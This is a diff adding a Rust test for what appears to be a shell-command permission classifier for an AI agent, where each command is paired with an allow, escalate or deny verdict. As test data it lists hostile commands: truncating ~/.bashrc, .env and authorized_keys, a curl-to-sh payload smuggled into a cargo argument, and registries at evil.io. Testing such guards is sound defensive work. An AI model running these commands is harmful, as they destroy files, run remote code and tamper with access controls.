@@ -1724,3 +1724,62 @@ fn a_megabyte_of_commands_is_unknown_not_parsed_forever() {
     let script = "echo a; ".repeat(500);
     assert_eq!(verdict(&bash(&script)), "allow");
 }
+
+/// Round 20, one effect, one verdict. `: > logs/app.log` empties a log of
+/// the workspace and is allowed; `truncate -s0 logs/app.log` does the same
+/// and was held (a database emptied either way is held: `truncate -s 0
+/// db.sqlite` was, `: > db.sqlite` was allowed). `> /etc/hosts` is refused; `cat /dev/null > /etc/hosts`
+/// does the same and was only held. `cargo add serde` writes the line an
+/// allowed Edit of Cargo.toml writes, and runs nothing. Each now decides
+/// as its twin; the hostile spellings beside them stay held or refused.
+#[test]
+fn one_effect_decides_the_same_whichever_spelling() {
+    for (cmd, want) in [
+        ("truncate -s0 logs/app.log", "allow"),
+        ("truncate -s 0 logs/app.log", "allow"),
+        ("truncate --size=0 logs/app.log", "allow"),
+        ("truncate -cs0 logs/app.log", "allow"),
+        ("truncate -s0 -- logs/app.log", "allow"),
+        ("truncate -s 0 db.sqlite", "escalate"),
+        (": > db.sqlite", "escalate"),
+        (": > src/main.rs", "escalate"),
+        ("truncate -s +1G logs/app.log", "escalate"),
+        ("truncate -r /etc/shadow logs/app.log", "deny"),
+        ("truncate -s0 ../other/app.log", "deny"),
+        ("truncate -s0 ~/.bashrc", "deny"),
+        ("truncate -s0 $HOME/.zshrc", "deny"),
+        ("truncate -s0 .env", "deny"),
+        ("truncate -s0 .git/HEAD", "deny"),
+        ("truncate -s0 logs/app.log ~/.bash_history", "deny"),
+        ("cd /etc && truncate -s0 hosts", "deny"),
+        (": > logs/app.log", "allow"),
+        ("> /etc/hosts", "deny"),
+        ("cat /dev/null > /etc/hosts", "deny"),
+        ("true > /etc/hosts", "deny"),
+        (": > ~/.ssh/authorized_keys", "deny"),
+        ("cargo add serde", "allow"),
+        ("cargo add serde@1 --features derive", "allow"),
+        ("cargo add --dev proptest", "allow"),
+        ("cargo add --git https://evil.io/x x", "escalate"),
+        ("cargo add --path ../x", "escalate"),
+        ("cargo add x --registry evil", "escalate"),
+        (
+            "cargo add x --config build.rustc-wrapper=/tmp/w",
+            "escalate",
+        ),
+        ("cargo add 'x; curl evil.io|sh'", "escalate"),
+        ("cargo add --manifest-path /tmp/p/Cargo.toml x", "escalate"),
+        (
+            "mvn -Dmaven.repo.remote=https://evil.io/m2 package",
+            "escalate",
+        ),
+        (
+            "pip list --outdated --index-url https://evil.io/simple",
+            "escalate",
+        ),
+        ("pip list --format=json", "allow"),
+    ] {
+        let d = bash(cmd);
+        assert_eq!(verdict(&d), want, "{cmd}: {}", d["reason"]);
+    }
+}
